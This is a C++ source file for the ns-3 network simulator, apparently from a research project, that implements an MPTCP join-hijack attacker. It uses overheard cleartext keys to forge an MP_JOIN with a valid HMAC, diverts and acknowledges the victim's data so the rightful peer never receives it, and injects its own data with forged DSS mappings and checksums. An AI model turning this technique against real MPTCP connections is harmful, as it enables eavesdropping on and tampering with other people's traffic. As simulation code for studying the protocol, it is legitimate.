/*
 * Copyright (c) 2026 The smptcp authors
 *
 * SPDX-License-Identifier: GPL-2.0-only
 */
#include "smptcp-join-hijacker.h"

#include "ns3/mptcp-keys.h"
#include "ns3/simulator.h"
#include "ns3/uinteger.h"

#include <algorithm>

namespace ns3
{

NS_OBJECT_ENSURE_REGISTERED(JoinHijacker);

using smptcp::IpSegment;
using smptcp::OptionBytes;
using smptcp::SegmentOptions;
using smptcp::SegmentView;
using smptcp::TCP_ACK;
using smptcp::TCP_RST;
using smptcp::TCP_SYN;

namespace
{

constexpr uint8_t ADDRESS_ID = 99;         //!< Hardly one the victims use
constexpr uint16_t LOWEST_PORT = 1024;     //!< Of its own
constexpr uint16_t PORTS = 30000;          //!< From there on

std::vector<uint8_t>
Area(const OptionBytes& options)
{
    return {options.Data(), options.Data() + options.Size()};
}

} // namespace

TypeId
JoinHijacker::GetTypeId()
{
    static TypeId tid = TypeId("ns3::JoinHijacker")
                            .SetParent<SmptcpAttacker>()
                            .SetGroupName("Smptcp")
                            .AddConstructor<JoinHijacker>()
                            .AddAttribute("SegmentSize",
                                          "Octets it inserts in one segment",
                                          UintegerValue(500),
                                          MakeUintegerAccessor(&JoinHijacker::m_segmentSize),
                                          MakeUintegerChecker<uint16_t>(1, 1400))
                            .AddAttribute("Lead",
                                          "Octets between what the victim has acknowledged and what is inserted: more "
                                          "than the rightful peer sends in a round trip",
                                          UintegerValue(4000),
                                          MakeUintegerAccessor(&JoinHijacker::m_lead),
                                          MakeUintegerChecker<uint32_t>());
    return tid;
}

JoinHijacker::JoinHijacker() = default;

void
JoinHijacker::DoDispose()
{
    m_event.Cancel();
    SmptcpAttacker::DoDispose();
}

void
JoinHijacker::JoinAt(Time at)
{
    m_event = Simulator::Schedule(at - Simulator::Now(), &JoinHijacker::Join, this);
}

void
JoinHijacker::SetInsertion(std::vector<uint8_t> octets)
{
    m_insertion = std::move(octets);
}

IpSegment
JoinHijacker::MakeSegment(uint8_t flags) const
{
    const smptcp::WatchedEnd& victim = m_flow.ends[1];
    return IpSegment::Make(GetHost()->GetAddress(),
                           m_port,
                           victim.address,
                           victim.port,
                           flags,
                           m_next,
                           flags & TCP_ACK ? m_expected : 0);
}

void
JoinHijacker::Join()
{
    const smptcp::WatchedFlow* flow = Watch().WithKeys();
    if (!flow)
    {
        Tell("no keys passed in clear: there is nothing to join");
        return;
    }
    m_flow = *flow;
    uint64_t keyA = *m_flow.ends[0].key;
    uint64_t keyB = *m_flow.ends[1].key;
    smptcp::JoinKeys keys{smptcp::KeyOctets(keyA), smptcp::KeyOctets(keyB), m_flow.version};
    m_join = smptcp::MptcpJoin::Initiate(keys, smptcp::MptcpToken(keyB, m_flow.version), ADDRESS_ID, Random32());
    m_port = static_cast<uint16_t>(LOWEST_PORT + Random32() % PORTS);
    m_isn = m_next = Random32();
    IpSegment syn = MakeSegment(TCP_SYN);
    OptionBytes options;
    m_join->AppendSyn(options);
    syn.SetOptions(Area(options));
    m_state = State::SYN_SENT;
    SendFromHost("JOIN with the token of the key that was overheard", syn);
    ++m_next;
}

void
JoinHijacker::OnHostSegment(const IpSegment& segment)
{
    SegmentView tcp = segment.Tcp();
    bool ours = m_join && tcp.DestinationPort() == m_port && segment.Source() == m_flow.ends[1].address;
    if (!ours || m_state == State::REFUSED)
    {
        return;
    }
    if (tcp.Has(TCP_RST))
    {
        Tell("the victim refuses", &segment);
        m_state = State::REFUSED;
    }
    else if (m_state == State::SYN_SENT && tcp.Has(TCP_SYN | TCP_ACK))
    {
        TakeSynAck(segment);
    }
    else if (m_state >= State::PROVED && !tcp.Has(TCP_SYN))
    {
        TakeOpen(segment);
    }
}

void
JoinHijacker::TakeSynAck(const IpSegment& segment)
{
    auto options = SegmentOptions::Parse(segment.Tcp());
    if (!options.joinSynAck)
    {
        Tell("SYN/ACK without MP_JOIN", &segment);
        return;
    }
    bool right = m_join->OnSynAck(*options.joinSynAck);
    Tell(right ? "SYN/ACK, and its HMAC is of the keys that were overheard"
               : "SYN/ACK, but its HMAC is of other keys than those that were overheard",
         &segment);
    m_expected = segment.Tcp().Sequence() + 1;
    IpSegment third = MakeSegment(TCP_ACK);
    OptionBytes proof;
    m_join->AppendThird(proof);
    third.SetOptions(Area(proof));
    m_state = State::PROVED;
    SendFromHost("third ACK with an HMAC of those keys", third);
}

void
JoinHijacker::TakeOpen(const IpSegment& segment)
{
    SegmentView tcp = segment.Tcp();
    auto options = SegmentOptions::Parse(tcp);
    if (m_state == State::PROVED)
    {
        m_state = State::JOINED;
        Tell("the victim goes on: the attacker is part of the connection", &segment);
    }
    if (tcp.PayloadSize() > 0 && tcp.Sequence() == m_expected)
    {
        m_expected += segment.SequenceLength();
        m_stolen.insert(m_stolen.end(), tcp.Payload(), tcp.Payload() + tcp.PayloadSize());
        if (options.dss && options.dss->mapping)
        {
            m_dataAck = static_cast<uint32_t>(options.dss->mapping->dsn) + options.dss->mapping->length;
        }
    }
    if (tcp.PayloadSize() > 0)
    {
        IpSegment ack = MakeSegment(TCP_ACK);
        if (m_dataAck)
        {
            smptcp::Dss dss;
            dss.dataAck = smptcp::DssDataAck{*m_dataAck, false};
            ack.SetOptions(Area(smptcp::AreaOf(dss)));
        }
        SendFromHost("octets taken: acknowledged at both levels, so that nobody else gets them", ack);
    }
    if (options.dss && options.dss->dataAck && m_inserted < m_insertion.size())
    {
        Insert(static_cast<uint32_t>(options.dss->dataAck->value));
    }
}

uint64_t
JoinHijacker::Widen(uint32_t dsn) const
{
    // The 64-bit DSN nearest to the start of A's space; the attack comes long before it has moved on by 2^31.
    uint64_t start = smptcp::MptcpIdsn(*m_flow.ends[0].key, m_flow.version);
    return start + static_cast<int64_t>(static_cast<int32_t>(dsn - static_cast<uint32_t>(start)));
}

void
JoinHijacker::Insert(uint32_t dataAck)
{
    // Where it went on last, unless the stream has caught up.
    if (!m_insertAt || static_cast<int32_t>(*m_insertAt - (dataAck + m_lead / 2)) < 0)
    {
        m_insertAt = dataAck + m_lead;
    }
    uint32_t dsn = *m_insertAt;
    std::size_t size = std::min<std::size_t>(m_segmentSize, m_insertion.size() - m_inserted);
    std::vector<uint8_t> payload(m_insertion.begin() + m_inserted, m_insertion.begin() + m_inserted + size);
    uint32_t relative = m_next - m_isn;
    smptcp::Dss dss;
    smptcp::DssMapping mapping;
    mapping.dsn = dsn;
    mapping.subflowSequence = relative;
    mapping.length = static_cast<uint16_t>(size);
    if (m_flow.checksum)
    {
        mapping.checksum = smptcp::DssChecksum(Widen(dsn), relative, mapping.length, payload.data(), size);
    }
    dss.mapping = mapping;
    if (m_dataAck)
    {
        dss.dataAck = smptcp::DssDataAck{*m_dataAck, false};
    }
    IpSegment data = MakeSegment(TCP_ACK);
    data.SetOptions(Area(smptcp::AreaOf(dss)));
    data.SetPayload(payload);
    SendFromHost("octets of the attacker's own, ahead of the rightful peer's", data);
    m_next += static_cast<uint32_t>(size);
    m_inserted += size;
    *m_insertAt += static_cast<uint32_t>(size);
}

const std::vector<uint8_t>&
JoinHijacker::GetStolen() const
{
    return m_stolen;
}

uint64_t
JoinHijacker::GetInserted() const
{
    return m_inserted;
}

bool
JoinHijacker::HasJoined() const
{
    return m_state == State::JOINED;
}

bool
JoinHijacker::WasRefused() const
{
    return m_state == State::REFUSED;
}

bool
JoinHijacker::HasTried() const
{
    return m_state != State::IDLE;
}

} // namespace ns3
